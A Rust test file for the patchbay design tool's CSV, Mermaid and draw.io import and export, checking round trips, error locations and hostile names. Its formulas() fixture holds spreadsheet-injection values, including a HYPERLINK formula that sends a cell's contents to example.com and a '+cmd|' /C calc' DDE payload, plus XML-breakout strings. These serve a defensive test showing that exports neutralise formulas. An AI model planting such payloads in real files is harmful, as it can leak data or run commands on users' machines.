//! Designs in and out of other tools: the interface catalogue (CSV) reads back what it
//! wrote for every sample and generated design, and every broken catalogue is refused
//! with its row and column, nothing half-imported.

use patchbay::analysis::analyze;
use patchbay::export::{ExportFormat, export};
use patchbay::interop;
use patchbay::model::{self, Design};
use proptest::prelude::*;
use std::path::Path;

/// What a catalogue carries: every link with its ends' names, kinds and zones and all
/// of its attributes, in order. (Positions, capability overrides, systems with no link,
/// flows and waivers are not a catalogue's business.)
fn catalogue_view(d: &Design) -> Vec<String> {
    let zone = |id: Option<model::ZoneId>| {
        id.and_then(|z| d.zone(z))
            .map_or("", |z| z.name.as_str())
            .to_owned()
    };
    d.links
        .iter()
        .map(|l| {
            let (a, b) = (d.system(l.from).expect("from"), d.system(l.to).expect("to"));
            let attrs = model::Link {
                id: model::LinkId(0),
                from: model::SystemId(0),
                to: model::SystemId(0),
                ..l.clone()
            };
            format!(
                "{} ({}, {}) -> {} ({}, {}): {attrs:?}",
                a.name,
                a.kind,
                zone(a.zone),
                b.name,
                b.kind,
                zone(b.zone)
            )
        })
        .collect()
}

fn round_trip(d: &Design) -> Design {
    let csv = String::from_utf8(export(d, &analyze(d), ExportFormat::Csv, 1.0).expect("csv"))
        .expect("utf-8");
    interop::csv::import(&csv)
        .unwrap_or_else(|p| panic!("{p:?}\n{csv}"))
        .design
}

#[test]
fn every_sample_reads_back_from_its_catalogue() {
    for s in patchbay::samples::ALL {
        let d = model::parse(s.text).expect("sample");
        let back = round_trip(&d);
        assert_eq!(catalogue_view(&back), catalogue_view(&d), "{}", s.title);
        // Kinds were all given, so nothing was guessed.
        let csv = String::from_utf8(export(&d, &analyze(&d), ExportFormat::Csv, 1.0).expect("csv"))
            .expect("utf-8");
        assert!(
            interop::csv::import(&csv).expect("reads").report.is_empty(),
            "{}",
            s.title
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    #[test]
    fn generated_designs_read_back_from_their_catalogue(seed in 0u64..10_000, systems in 2usize..40) {
        let d = patchbay::generate::generate(patchbay::generate::Params {
            systems,
            links_per_system: 3,
            seed,
        });
        // Names are unique in a catalogue: they are how rows name systems.
        let mut names: Vec<&str> = d.systems.iter().map(|s| s.name.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        prop_assume!(names.len() == d.systems.len());
        prop_assert_eq!(catalogue_view(&round_trip(&d)), catalogue_view(&d));
    }
}

#[test]
fn kinds_not_given_are_guessed_from_names_and_said() {
    let csv = "source,target,purpose\nCustomer portal,Salesforce,Cases\nSalesforce,SAP ERP,Orders\nSalesforce,Acme Widget,Something\n";
    let imported = interop::csv::import(csv).expect("reads");
    let kind = |name: &str| {
        imported
            .design
            .systems
            .iter()
            .find(|s| s.name == name)
            .expect("system")
            .kind
    };
    assert_eq!(kind("Customer portal"), model::SystemKind::WebApp);
    assert_eq!(kind("SAP ERP"), model::SystemKind::Erp);
    assert_eq!(kind("Acme Widget"), model::SystemKind::Other);
    assert_eq!(imported.report.len(), 4, "{:?}", imported.report);
    assert!(
        imported
            .report
            .iter()
            .any(|l| l.starts_with("SAP ERP: guessed kind erp from \"sap\"")),
        "{:?}",
        imported.report
    );
    assert!(
        imported
            .report
            .iter()
            .any(|l| l.contains("Acme Widget: no kind given"))
    );
}

/// Each broken catalogue: its problems as `line:col: message` beginnings.
#[test]
fn broken_catalogues_are_refused_with_every_place() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/bad/csv");
    let cases: &[(&str, &[(&str, &str)])] = &[
        ("wrong-column.csv", &[("1:5", "unknown column \"colour\"")]),
        (
            "wrong-enum.csv",
            &[
                (
                    "2:4",
                    "latency: unknown latency \"hourly\"; expected one of: real-time, near-real-time, batch",
                ),
                ("3:5", "volume: \"lots\" is not a number of records"),
            ],
        ),
        (
            "ragged-row.csv",
            &[("3:3", "this row has 2 fields where the header has 3")],
        ),
        (
            "semicolons.csv",
            &[("1:1", "the columns are separated by semicolons")],
        ),
        (
            "missing-target.csv",
            &[("1:1", "there is no target column")],
        ),
        (
            "two-kinds.csv",
            &[
                ("3:4", "source_kind: Shop is spa here but web-app on line 2"),
                ("4:1", "source: is empty"),
            ],
        ),
        // The byte order mark a spreadsheet writes is not part of the first column.
        (
            "bom-wrong-trigger.csv",
            &[("2:4", "trigger: unknown trigger \"fortnightly\"")],
        ),
        (
            "unclosed-quote.csv",
            &[("2:2", "the quoted field in column 1 is never closed")],
        ),
    ];
    let mut seen = 0;
    for (file, wanted) in cases {
        let text = std::fs::read_to_string(dir.join(file)).expect("fixture");
        let problems = interop::csv::import(&text).expect_err(file);
        let got: Vec<String> = problems
            .iter()
            .map(|p| {
                let l = p.location.expect("a place");
                format!("{}:{}: {}", l.line, l.col, p.message)
            })
            .collect();
        assert_eq!(got.len(), wanted.len(), "{file}: {got:#?}");
        for (g, (place, text)) in got.iter().zip(*wanted) {
            assert!(
                g.starts_with(&format!("{place}: {text}")),
                "{file}: expected {place}: {text}, got {g}"
            );
        }
        seen += 1;
    }
    assert_eq!(
        seen,
        std::fs::read_dir(&dir).expect("dir").count(),
        "every fixture has its case"
    );
}

#[test]
fn import_writes_the_design_and_says_what_it_guessed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let csv = dir.path().join("inventory.csv");
    std::fs::write(&csv, "source,target,purpose,needs_response\n\"Shop, EU\",Salesforce,\"Sign-up \"\"fast\"\"\",yes\n").expect("write");
    let out = dir.path().join("inventory.patchbay.ron");
    let run = std::process::Command::new(env!("CARGO_BIN_EXE_patchbay"))
        .args([
            "import",
            csv.to_str().expect("path"),
            "-o",
            out.to_str().expect("path"),
        ])
        .output()
        .expect("run");
    assert_eq!(run.status.code(), Some(0));
    let err = String::from_utf8_lossy(&run.stderr);
    assert!(
        err.contains("note: Salesforce: guessed kind salesforce-org"),
        "{err}"
    );
    let d = model::load(&out).expect("a valid design");
    assert_eq!(d.systems[0].name, "Shop, EU");
    assert_eq!(d.links[0].purpose, "Sign-up \"fast\"");
    assert!(d.links[0].needs_response);

    let bad = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/bad/csv/wrong-enum.csv");
    let run = std::process::Command::new(env!("CARGO_BIN_EXE_patchbay"))
        .args([
            "import",
            bad.to_str().expect("path"),
            "-o",
            out.to_str().expect("path"),
        ])
        .output()
        .expect("run");
    assert_eq!(run.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&run.stderr).contains("wrong-enum.csv:2:4: latency"));
    // Nothing half-imported: the earlier design is still there, whole.
    assert_eq!(model::load(&out).expect("untouched").links.len(), 1);
}

/// What a flowchart carries: systems by name and kind, in their zones, and the links
/// between them with their purposes (in Patchbay's comments; the edges show advice).
fn flowchart_view(d: &Design) -> (Vec<String>, Vec<String>) {
    let zone = |id: Option<model::ZoneId>| {
        id.and_then(|z| d.zone(z))
            .map_or("", |z| z.name.as_str())
            .to_owned()
    };
    let mut systems: Vec<String> = d
        .systems
        .iter()
        .map(|s| format!("{} ({}) in {}", s.name, s.kind, zone(s.zone)))
        .collect();
    systems.sort();
    let name = |id| d.system(id).map_or("?", |s| s.name.as_str()).to_owned();
    let mut links: Vec<String> = d
        .links
        .iter()
        .map(|l| format!("{} -> {}: {:?}", name(l.from), name(l.to), l.purpose))
        .collect();
    links.sort();
    (systems, links)
}

fn from_mermaid(d: &Design) -> Design {
    let mmd =
        String::from_utf8(export(d, &analyze(d), ExportFormat::Mermaid, 1.0).expect("mermaid"))
            .expect("utf-8");
    interop::mermaid::import(&mmd)
        .unwrap_or_else(|p| panic!("{p:?}\n{mmd}"))
        .design
}

#[test]
fn every_sample_reads_back_from_its_mermaid_flowchart() {
    for s in patchbay::samples::ALL {
        let d = model::parse(s.text).expect("sample");
        assert_eq!(
            flowchart_view(&from_mermaid(&d)),
            flowchart_view(&d),
            "{}",
            s.title
        );
    }
    // Hostile names come through as text, through Mermaid's entity codes.
    let mut d = model::parse(patchbay::samples::ALL[3].text).expect("startup");
    d.systems[0].name = "Shop \"EU\" | <b>#1</b> & co; --> x".into();
    assert_eq!(flowchart_view(&from_mermaid(&d)), flowchart_view(&d));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(16))]

    #[test]
    fn generated_designs_read_back_from_their_mermaid_flowchart(seed in 0u64..10_000, systems in 2usize..30) {
        let d = patchbay::generate::generate(patchbay::generate::Params { systems, links_per_system: 3, seed });
        prop_assert_eq!(flowchart_view(&from_mermaid(&d)), flowchart_view(&d));
    }
}

#[test]
fn a_hand_written_flowchart_is_read_with_its_guesses_said() {
    let md = "# Landscape\n\nSome text.\n\n```mermaid\ngraph TD\n  %% the shop\n  A[Customer portal] -->|Cases| B[Salesforce]\n  B -- orders --> C[(Orders)]\n  subgraph Partners\n    D{{Payment gateway}}\n  end\n  B -.-> D\n  click A \"https://example.com\"\n```\n";
    let imported = interop::mermaid::import(md).expect("reads");
    let d = &imported.design;
    assert_eq!(d.systems.len(), 4);
    let kind = |name: &str| d.systems.iter().find(|s| s.name == name).map(|s| s.kind);
    assert_eq!(
        kind("Orders"),
        Some(model::SystemKind::Database),
        "a cylinder is a database"
    );
    assert_eq!(kind("Salesforce"), Some(model::SystemKind::SalesforceOrg));
    assert_eq!(
        kind("Payment gateway"),
        Some(model::SystemKind::PaymentService),
        "a hexagon's label"
    );
    let partners = d
        .zones
        .iter()
        .find(|z| z.name == "Partners")
        .expect("the subgraph is a zone")
        .id;
    assert_eq!(
        d.systems
            .iter()
            .find(|s| s.name == "Payment gateway")
            .and_then(|s| s.zone),
        Some(partners)
    );
    assert_eq!(d.links.len(), 3);
    assert_eq!(d.links[0].purpose, "Cases");
    assert_eq!(d.links[1].purpose, "orders");
    assert!(
        imported.report.iter().any(|l| l.contains("click handler")),
        "{:?}",
        imported.report
    );
}

#[test]
fn a_file_with_no_flowchart_or_nothing_readable_is_refused_at_its_line() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/bad/mermaid");
    let cases: &[(&str, &str)] = &[
        (
            "not-a-flowchart.mmd",
            "1:1: \"sequenceDiagram\" is not a flowchart",
        ),
        (
            "nothing-readable.mmd",
            "1:1: the flowchart has no node Patchbay could read",
        ),
    ];
    for (file, wanted) in cases {
        let text = std::fs::read_to_string(dir.join(file)).expect("fixture");
        let problems = interop::mermaid::import(&text).expect_err(file);
        let l = problems[0].location.expect("a place");
        let got = format!("{}:{}: {}", l.line, l.col, problems[0].message);
        assert!(got.starts_with(wanted), "{file}: {got}");
    }
    assert_eq!(std::fs::read_dir(&dir).expect("dir").count(), cases.len());
}

/// maxGraph's reading of a `.drawio` file: vertices, edges, containers, every label,
/// and each edge's whole route.
struct MaxGraph {
    vertices: usize,
    edges: usize,
    containers: usize,
    labels: Vec<String>,
    routes: Vec<String>,
}

/// maxGraph's reading of some `.drawio` files.
fn maxgraph(files: &[std::path::PathBuf]) -> Vec<MaxGraph> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let modules = std::env::var_os("MAXGRAPH")
        .map_or_else(|| root.join("target/maxgraph"), std::path::PathBuf::from);
    assert!(
        modules.join("node_modules/@maxgraph/core").exists(),
        "maxGraph is not in {} (`.ci/run` installs it; or set MAXGRAPH)",
        modules.display()
    );
    // Node resolves the packages from the script's folder: run a copy beside them.
    let script = modules.join("check.mjs");
    std::fs::copy(root.join("tests/maxgraph/check.mjs"), &script).expect("copy the script");
    let out = std::process::Command::new("node")
        .arg(&script)
        .args(files)
        .output()
        .expect("node runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    v.as_array()
        .expect("a list")
        .iter()
        .map(|r| {
            assert!(r.get("error").is_none(), "{r}");
            let texts = |key: &str| -> Vec<String> {
                r[key]
                    .as_array()
                    .expect("a list")
                    .iter()
                    .map(|l| l.as_str().expect("text").to_owned())
                    .collect()
            };
            MaxGraph {
                vertices: r["vertices"].as_u64().expect("n") as usize,
                edges: r["edges"].as_u64().expect("n") as usize,
                containers: r["containers"].as_u64().expect("n") as usize,
                labels: texts("labels"),
                routes: texts("routes"),
            }
        })
        .collect()
}

#[test]
fn maxgraph_reads_every_drawio_export_with_every_shape_and_label() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut designs: Vec<(String, Design)> = patchbay::samples::ALL
        .iter()
        .map(|s| {
            (
                s.file_name.to_owned(),
                model::parse(s.text).expect("sample"),
            )
        })
        .collect();
    // Names that try to break out of XML, and the design's own fields.
    let mut hostile = model::parse(patchbay::samples::ALL[3].text).expect("startup");
    hostile.name = "<mxfile> & \"x\"".into();
    hostile.systems[0].name = "</object><mxCell id=\"0\"/> & 'co' ]]>".into();
    hostile.systems[1].name = "two\nlines 🙂".into();
    designs.push(("hostile".into(), hostile));
    // Generated designs laid out by Patchbay, where many links share their ends.
    for systems in [30, 100] {
        let mut d = patchbay::generate::generate(patchbay::generate::Params {
            systems,
            links_per_system: 5,
            seed: 1,
        });
        for s in &mut d.systems {
            s.position = None;
        }
        designs.push((format!("generated-{systems}"), d));
    }
    let files: Vec<std::path::PathBuf> = designs
        .iter()
        .map(|(name, d)| {
            let path = dir.path().join(format!("{name}.drawio"));
            std::fs::write(
                &path,
                export(d, &analyze(d), ExportFormat::Drawio, 1.0).expect("drawio"),
            )
            .expect("write");
            path
        })
        .collect();
    for ((name, d), read) in designs.iter().zip(maxgraph(&files)) {
        let MaxGraph {
            vertices,
            edges,
            containers,
            labels,
            routes,
        } = read;
        let g = patchbay::geometry::Geometry::new(d, &analyze(d));
        let zones = g.zones.len();
        // Every edge keeps Patchbay's bends, and no two share their whole route (links
        // between the same two systems lie apart).
        let mut drawn: Vec<String> = routes
            .iter()
            .map(|r| r.split(" via ").nth(1).unwrap_or("").to_owned())
            .collect();
        let mut routed: Vec<String> = g
            .links
            .iter()
            .map(|shape| {
                let inner = &shape.route[1..shape.route.len().saturating_sub(1)];
                let bends: Vec<String> = inner
                    .iter()
                    .map(|p| format!("{},{}", p.x.round(), p.y.round()))
                    .collect();
                bends.join(" ")
            })
            .collect();
        drawn.sort();
        routed.sort();
        assert_eq!(drawn, routed, "{name}: the edges' bends are Patchbay's");
        let distinct: std::collections::HashSet<&String> = routes.iter().collect();
        assert_eq!(
            distinct.len(),
            routes.len(),
            "{name}: two edges share a whole route"
        );
        assert_eq!(
            vertices,
            d.systems.len() + zones,
            "{name}: systems and zones"
        );
        assert_eq!(edges, d.links.len(), "{name}: links");
        assert_eq!(containers, zones, "{name}: zones hold their systems");
        for s in &d.systems {
            assert!(
                labels.iter().any(|l| l.ends_with(&s.name)),
                "{name}: {:?} not among the labels",
                s.name
            );
        }
    }
}

/// Everything a design file says about systems, zones and links, positions aside (the
/// drawing puts a system's centre where Patchbay's layout has it).
fn full_view(d: &Design) -> (Vec<String>, Vec<String>, (String, String), String) {
    let mut systems: Vec<String> = d
        .systems
        .iter()
        .map(|s| {
            let zone = s.zone.and_then(|z| d.zone(z)).map(|z| z.name.clone());
            format!(
                "{:?} in {zone:?}",
                model::System {
                    id: model::SystemId(0),
                    zone: None,
                    position: None,
                    ..s.clone()
                }
            )
        })
        .collect();
    systems.sort();
    let name = |id| d.system(id).map_or("?", |s| s.name.as_str()).to_owned();
    let mut links: Vec<String> = d
        .links
        .iter()
        .map(|l| {
            format!(
                "{} -> {}: {:?}",
                name(l.from),
                name(l.to),
                model::Link {
                    id: model::LinkId(0),
                    from: model::SystemId(0),
                    to: model::SystemId(0),
                    ..l.clone()
                }
            )
        })
        .collect();
    links.sort();
    // Flows and waivers name links and systems by id: the ids come back too.
    let reviews = format!("{:?} {:?}", d.flows, d.waivers);
    (
        systems,
        links,
        (d.name.clone(), d.description.clone()),
        reviews,
    )
}

fn from_drawio(d: &Design) -> Design {
    let xml = String::from_utf8(export(d, &analyze(d), ExportFormat::Drawio, 1.0).expect("drawio"))
        .expect("utf-8");
    interop::drawio::import(&xml, None)
        .unwrap_or_else(|p| panic!("{p:?}"))
        .design
}

/// The startup sample with names built to break out of XML, CSV and Mermaid.
fn hostile() -> Design {
    let mut d = model::parse(patchbay::samples::ALL[3].text).expect("startup");
    d.name = "<mxfile> & \"x\"".into();
    d.description = "a,b;\"c\"\nline two".into();
    d.systems[0].name = "</object><mxCell id=\"0\"/> & 'co', ]]> #38;".into();
    d.systems[1].name = "two\nlines 🙂 | -->".into();
    d.links[0].purpose = "\"quoted\", with, commas\tand tabs".into();
    d
}

#[test]
fn hostile_names_come_through_every_import_as_text() {
    let d = hostile();
    assert_eq!(full_view(&from_drawio(&d)), full_view(&d));
    assert_eq!(catalogue_view(&round_trip(&d)), catalogue_view(&d));
    assert_eq!(flowchart_view(&from_mermaid(&d)), flowchart_view(&d));
}

/// Names people give and names no format should trip on: line breaks, spaces at
/// either end, quotes, markup, separators, and (drawn from a short list) names two
/// systems share.
fn hostile_name() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("Shop\nEU".to_owned()),
        Just(" leading space".to_owned()),
        Just("trailing space ".to_owned()),
        Just("two  spaces".to_owned()),
        Just("Line one \n line two".to_owned()),
        Just("\"Quoted\", with comma".to_owned()),
        Just("<b>bold</b> & 'apostrophe'".to_owned()),
        Just("semi;colon | pipe --> arrow".to_owned()),
        Just("#35; hash and &amp; entity".to_owned()),
        Just("東京 💳".to_owned()),
        Just("Same name".to_owned()),
        "[a-zA-Z][a-zA-Z0-9 ]{0,12}[a-zA-Z0-9]",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// Every name comes back exactly through CSV, Mermaid and draw.io, shared names
    /// included (two systems named alike stay two).
    #[test]
    fn hostile_names_survive_every_round_trip(
        seed in 0u64..10_000,
        systems in 2usize..12,
        names in proptest::collection::vec(hostile_name(), 12),
        purposes in proptest::collection::vec(hostile_name(), 40),
    ) {
        let mut d = patchbay::generate::generate(patchbay::generate::Params { systems, links_per_system: 2, seed });
        for (s, name) in d.systems.iter_mut().zip(&names) {
            s.name = name.clone();
        }
        for (l, purpose) in d.links.iter_mut().zip(purposes.iter().cycle()) {
            l.purpose = purpose.clone();
        }
        if let Some(z) = d.zones.first_mut() {
            z.name = " Zone\nwith  spaces ".to_owned();
        }
        prop_assume!(model::validate::validate(&d).is_empty());
        prop_assert_eq!(catalogue_view(&round_trip(&d)), catalogue_view(&d));
        prop_assert_eq!(flowchart_view(&from_mermaid(&d)), flowchart_view(&d));
        prop_assert_eq!(full_view(&from_drawio(&d)), full_view(&d));
    }
}

#[test]
fn every_sample_reads_back_from_its_drawio_file_with_every_attribute() {
    for s in patchbay::samples::ALL {
        let d = model::parse(s.text).expect("sample");
        // Systems in zones the drawing does not show (a zone with no system) aside,
        // everything comes back.
        assert_eq!(full_view(&from_drawio(&d)), full_view(&d), "{}", s.title);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(12))]

    #[test]
    fn generated_designs_read_back_from_their_drawio_file(seed in 0u64..10_000, systems in 2usize..25) {
        let d = patchbay::generate::generate(patchbay::generate::Params { systems, links_per_system: 3, seed });
        prop_assert_eq!(full_view(&from_drawio(&d)), full_view(&d));
    }
}

#[test]
fn a_compressed_page_reads_like_a_plain_one_and_pages_are_chosen_by_name() {
    use base64::Engine;
    let d = model::parse(patchbay::samples::ALL[0].text).expect("retail");
    let plain =
        String::from_utf8(export(&d, &analyze(&d), ExportFormat::Drawio, 1.0).expect("drawio"))
            .expect("utf-8");
    let start = plain.find("<mxGraphModel").expect("model");
    let end = plain.find("</mxGraphModel>").expect("end") + "</mxGraphModel>".len();
    // As draw.io saves by default: URI-encoded, raw deflate, base64.
    let encoded: String = percent_encoding::utf8_percent_encode(
        &plain[start..end],
        percent_encoding::NON_ALPHANUMERIC,
    )
    .to_string();
    let packed = base64::engine::general_purpose::STANDARD
        .encode(miniz_oxide::deflate::compress_to_vec(encoded.as_bytes(), 6));
    let file = format!(
        "<mxfile>\n  <diagram name=\"Other\">{packed}</diagram>\n  <diagram name=\"Retail\">{packed}</diagram>\n</mxfile>\n"
    );
    let back = interop::drawio::import(&file, Some("Retail"))
        .expect("reads")
        .design;
    assert_eq!(full_view(&back), full_view(&d));
    let missing = interop::drawio::import(&file, Some("Nope")).expect_err("no such page");
    assert!(
        missing[0].message.contains("the pages are: Other, Retail"),
        "{missing:?}"
    );
}

#[test]
fn a_diagram_drawn_by_hand_in_drawio_is_read_with_its_report() {
    let text = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/drawio/hand-drawn.drawio"),
    )
    .expect("fixture");
    let imported = interop::drawio::import(&text, None).expect("reads");
    let d = &imported.design;
    let kind = |name: &str| d.systems.iter().find(|s| s.name == name).map(|s| s.kind);
    assert_eq!(d.systems.len(), 5);
    assert_eq!(
        kind("Salesforce Service Cloud"),
        Some(model::SystemKind::SalesforceOrg)
    );
    assert_eq!(kind("Finance data"), Some(model::SystemKind::Database));
    assert_eq!(kind("Kafka"), Some(model::SystemKind::MessageBroker));
    assert_eq!(d.zones.len(), 1, "the swimlane is a zone");
    assert_eq!(d.links.len(), 3);
    assert_eq!(d.name, "Landscape");
    assert_eq!(
        imported.report,
        vec![
            "Salesforce Service Cloud: guessed kind salesforce-org from \"salesforce\" in its name",
            "Okta: guessed kind identity-provider from \"okta\" in its name",
            "SAP S/4HANA: guessed kind erp from \"sap\" in its name",
            "Finance data: drawn as a cylinder, so a database",
            "Kafka: guessed kind message-broker from \"kafka\" in its name",
            "Draft for review: a text box, not a system; skipped",
        ]
    );
}

#[test]
fn broken_drawio_files_are_refused_with_their_place() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/bad/drawio");
    let cases: &[(&str, &str)] = &[
        ("truncated.drawio", "this is not well-formed XML"),
        (
            "bad-base64.drawio",
            "2:3: the compressed page is not valid base64",
        ),
    ];
    for (file, wanted) in cases {
        let text = std::fs::read_to_string(dir.join(file)).expect("fixture");
        let p = &interop::drawio::import(&text, None).expect_err(file)[0];
        let l = p.location.expect("a place");
        let got = format!("{}:{}: {}", l.line, l.col, p.message);
        assert!(got.contains(wanted), "{file}: {got}");
    }
    assert_eq!(std::fs::read_dir(&dir).expect("dir").count(), cases.len());
}

/// A design whose names, purposes and notes start the way spreadsheet formulas do.
fn formulas() -> Design {
    let mut d = model::parse(patchbay::samples::ALL[3].text).expect("startup");
    d.systems[0].name = "=HYPERLINK(\"https://example.com/?\"&A1,\"open\")".into();
    d.systems[1].name = "+cmd|' /C calc'!A0".into();
    d.links[0].purpose = "-2+3".into();
    d.links[0].notes = "@SUM(1+1)".into();
    d.links[1].purpose = "\tTabbed".into();
    d.links[1].notes = "'=already guarded by hand".into();
    d
}

#[test]
fn no_catalogue_cell_runs_as_a_formula_and_every_one_comes_back() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut designs: Vec<Design> = patchbay::samples::ALL
        .iter()
        .map(|s| model::parse(s.text).expect("sample"))
        .collect();
    designs.push(formulas());
    designs.push(hostile());
    for (i, d) in designs.iter().enumerate() {
        let csv = String::from_utf8(export(d, &analyze(d), ExportFormat::Csv, 1.0).expect("csv"))
            .expect("utf-8");
        let path = dir.path().join(format!("{i}.csv"));
        std::fs::write(&path, &csv).expect("write");
        // Python's csv module reads every cell as a spreadsheet would get it.
        let out = std::process::Command::new("/usr/bin/python3")
            .arg("-c")
            .arg(
                "import csv,sys\n\
                 bad=[c for row in csv.reader(open(sys.argv[1],newline='',encoding='utf-8')) for c in row if c[:1] in ('=','+','-','@','\\t','\\r')]\n\
                 print(len(bad)); [print(repr(c)) for c in bad]",
            )
            .arg(&path)
            .output()
            .expect("python3 runs");
        let said = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert_eq!(
            said.lines().next(),
            Some("0"),
            "design {i}: formula cells:\n{said}"
        );
        assert_eq!(
            catalogue_view(&round_trip(d)),
            catalogue_view(d),
            "design {i}"
        );
    }
}
